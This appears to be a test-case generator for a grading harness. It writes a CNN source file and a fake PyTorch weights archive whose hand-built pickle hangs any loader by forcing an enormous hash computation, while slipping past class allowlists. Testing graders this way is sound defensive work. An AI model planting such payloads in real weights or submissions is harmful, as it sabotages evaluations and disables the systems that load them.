# attack: >-
#   A plain pickle of a dict whose key is a tuple of the same tuple twice, 60 deep: to hash it takes 2**60 steps,
#   in whichever process loads it, and no class is named that a list could forbid.
# tasks: [better-cnn-accuracy]
# mark: 0
# seconds: 20
# naive: hangs
# kind: generator

from pathlib import Path

import torch
import zipfile

WORK = """\
import torch
from torch import nn
from torch.nn import functional as F


class BetterCNN(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv1 = nn.Conv2d(1, 30, 5)
        self.conv2 = nn.Conv2d(30, 15, 3)
        self.fc1 = nn.Linear(375, 128)
        self.fc2 = nn.Linear(128, 50)
        self.fc3 = nn.Linear(50, 10)

    def forward(self, x):
        x = F.max_pool2d(F.relu(self.conv1(x)), 2)
        x = F.max_pool2d(F.relu(self.conv2(x)), 2).flatten(1)
        return self.fc3(F.relu(self.fc2(F.relu(self.fc1(x)))))
"""


def laid_out(folder: Path) -> Path:
    (folder / "work.py").write_text(WORK)
    (folder / "weights").mkdir()
    return folder / "weights" / "better_cnn.pt"


def submission(folder: Path, tokens: dict[str, str]) -> None:
    nested = b")" + b"".join(b"q" + bytes([level]) + b"h" + bytes([level]) + b"\x86" for level in range(60))
    pickled = b"\x80\x02}" + nested + b"K\x01s."
    with zipfile.ZipFile(laid_out(folder), "w") as packed:
        packed.writestr("archive/data.pkl", pickled)
        packed.writestr("archive/version", "3\n")
        packed.writestr("archive/byteorder", "little")
